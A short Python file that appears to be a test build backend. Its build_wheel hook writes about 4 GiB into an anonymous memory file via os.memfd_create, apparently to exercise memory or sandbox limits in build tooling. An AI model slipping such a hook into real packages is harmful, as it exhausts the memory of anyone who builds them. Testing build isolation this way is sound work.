"""In one without a name, which no file system bounds."""

import os


def build_wheel(folder, config_settings=None, metadata_directory=None):
    descriptor = os.memfd_create("eaten")
    for _ in range(4096):
        os.write(descriptor, b"x" * (1 << 20))
